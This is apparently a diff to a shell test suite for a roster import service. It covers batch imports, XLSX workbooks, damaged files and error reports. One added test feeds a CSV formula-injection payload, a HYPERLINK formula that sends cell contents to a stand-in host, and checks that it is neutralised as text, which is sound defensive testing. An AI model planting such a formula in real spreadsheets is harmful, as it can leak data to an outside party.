@@ -89,6 +89,28 @@ expect_json '[.people, .positions.added]' '[{"created":0,"updated":1,"unchanged"
     "a row with changed data updates the person"
 expect_eq "$(sql "SELECT mobile, version FROM person WHERE id_number = '$sun_id'")" "13900002222 2"
 
+# A file larger than a batch (the audit entries are written and the persons looked up a
+# hundred at a time): every entry is written, and a second import finds every person.
+{
+    echo "$IMPORT_HEADER"
+    for i in $(seq 100 249); do
+        day=$(printf '%02d' $((i % 28 + 1)))
+        import_row 210102001 '' "批量$i" "1966-03-$day" "$(id_with_check "650103196603$day$i")"
+    done
+} >"$f/batch.csv"
+before_audit=$(sql "SELECT MAX(id) FROM audit_log")
+upload heping-clerk "$f/batch.csv"
+expect_json '[.people.created, .positions.added]' '[150,150]' "150 rows in one file"
+expect_eq "$(sql "SELECT COUNT(*), COUNT(DISTINCT entity_id) FROM audit_log WHERE id > $before_audit
+                  AND entity = 'person'")" "150 150" "each new person has her audit entry"
+expect_eq "$(sql "SELECT COUNT(*) FROM audit_log WHERE id > $before_audit")" 301 \
+    "... and each position, and the import itself"
+before=$(state)
+upload heping-clerk "$f/batch.csv"
+expect_json '[.people, .positions.held_already]' '[{"created":0,"updated":0,"unchanged":150},150]' \
+    "the second import finds all 150"
+expect_eq "$(state)" "$before"
+
 # --- GB18030, as a Chinese Excel saves CSV ------------------------------------------------------
 
 {
@@ -111,14 +133,51 @@ expect_json '[.people.unchanged, .positions.held_already]' '[2,2]' \
     "the same rows in UTF-8 with a byte order mark change nothing"
 expect_eq "$(state)" "$before"
 
+# --- XLSX ---------------------------------------------------------------------------------------
+
+# Shared strings, dates as Excel's serial numbers (45306 is 2024-01-15), a formula-looking text.
+{
+    echo "$IMPORT_HEADER"
+    import_row 210102001 '' 韩梅 1981-09-09 | sed 's/,2024-01-15$/,#n45306/'
+    import_row 210102001 '浑河湾街道导入测试妇委会' '@SUM(1+1)' 1978-12-12
+} >"$f/book.csv"
+han_id=$(sed -n 2p "$f/book.csv" | cut -d, -f9)
+at_id=$(sed -n 3p "$f/book.csv" | cut -d, -f9)
+make_xlsx "$f/book.xlsx" "$f/book.csv"
+check "the workbook is a ZIP archive" test "$(head -c 2 "$f/book.xlsx")" = PK
+upload heping-clerk "$f/book.xlsx"
+expect_status 200 "an XLSX workbook is imported"
+expect_json '[.people.created, .positions.added]' '[2,2]'
+expect_eq "$(sql "SELECT p.name, x.start_date FROM person p JOIN position x ON x.person_id = p.id
+                  WHERE p.id_number = '$han_id'")" "韩梅 2024-01-15" "a date cell's serial number becomes its date"
+expect_eq "$(sql "SELECT name FROM person WHERE id_number = '$at_id'")" "@SUM(1+1)" \
+    "a formula-looking text cell is stored as text"
+before=$(state)
+upload heping-clerk "$f/book.xlsx"
+expect_json '[.people.unchanged, .positions.held_already]' '[2,2]' "the same workbook again changes nothing"
+expect_eq "$(state)" "$before"
+# Errors in a workbook name its row and column.
+sed 's/,女,/,F,/' "$f/book.csv" >"$f/bad-book.csv"
+make_xlsx "$f/bad-book.xlsx" "$f/bad-book.csv"
+refused_import 422 invalid_rows heping-clerk "$f/bad-book.xlsx"
+expect_eq "$(row_errors)" "2:4:gender:invalid|3:4:gender:invalid" "a workbook's errors have row and column"
+
 # --- Bad input: refused, nothing written --------------------------------------------------------
 
 # Neither CSV nor XLSX.
 printf '%%PDF-1.4\n%%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\x00\x00\x01\x02' >"$f/doc.pdf"
 refused_import 415 unsupported_file heping-clerk "$f/doc.pdf"
-expect_json .error.message '"the file is neither CSV nor XLSX; save the sheet from the spreadsheet program as CSV (UTF-8) and send that"'
+expect_json .error.message '"the file is neither CSV nor XLSX; save the sheet from the spreadsheet program as an Excel workbook (.xlsx) or as CSV (UTF-8) and send that"'
 head -c 3000 /dev/urandom >"$f/random.bin"
 refused_import 415 unsupported_file heping-clerk "$f/random.bin"
+
+# A truncated XLSX, and a ZIP that is no workbook.
+head -c $(($(stat -c %s "$f/book.xlsx") * 2 / 3)) "$f/book.xlsx" >"$f/cut.xlsx"
+refused_import 422 invalid_xlsx heping-clerk "$f/cut.xlsx"
+check "... saying the file is damaged or cut off" grep -q 'damaged or cut off' <<<"$HTTP_BODY"
+(cd "$f" && zip -q notes.zip good.csv)
+refused_import 422 invalid_xlsx heping-clerk "$f/notes.zip"
+expect_json .error.message '"the workbook has no xl/workbook.xml: is it an Excel workbook (.xlsx)?"'
 
 # 100 MB: refused from its Content-Length before the body is sent (curl waits for
 # "100 Continue", which never comes), with the limit in the message.
@@ -217,6 +276,16 @@ expect_eq "$(tail -c +4 "$TEST_TMP/body" | tr -d '\r' | sed -n '1p;2p')" \
     $'行号,列,列名,错误代码,错误说明\n2,4,性别,invalid,must be one of 女、男' "the error file lists line, column and reason"
 expect_eq "$(tail -c +4 "$TEST_TMP/body" | wc -l)" 7 "... one line per error"
 expect_eq "$(state)" "$before"
+
+# What a file sent never comes back as a formula: a header cell that looks like one is written
+# into the error file as text (a leading apostrophe), whatever spreadsheet opens it.
+printf '%s,"=HYPERLINK(""http://x.example/""&A1)"\n' "$IMPORT_HEADER" >"$f/formula-header.csv"
+import_row 210102001 '' 褚红 1971-07-07 | sed 's/$/,x/' >>"$f/formula-header.csv"
+upload heping-clerk "$f/formula-header.csv" '?errors=csv'
+expect_status 422 "an unknown formula-looking column is an error"
+check "... which the error file writes as text, not as a formula" \
+    grep -qF '"'"'"'=HYPERLINK(""http://x.example/""&A1)"' "$TEST_TMP/body"
+check "... and nowhere as a cell starting with =" bash -c "! grep -qE '(^|,)=' '$TEST_TMP/body'"
 
 # A person on the roll of the sibling county: her ID number cannot be taken over.
 shenhe_org=$(sql "SELECT id FROM organisation WHERE federation_of = '210103005'")
